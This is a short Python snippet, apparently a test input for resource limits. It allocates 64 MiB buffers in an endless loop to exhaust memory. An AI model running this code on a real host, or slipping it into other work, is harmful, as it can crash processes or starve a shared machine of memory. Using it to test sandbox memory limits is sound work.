_taken = []
while True:
    _taken.append(bytearray(b"1") * (64 << 20))
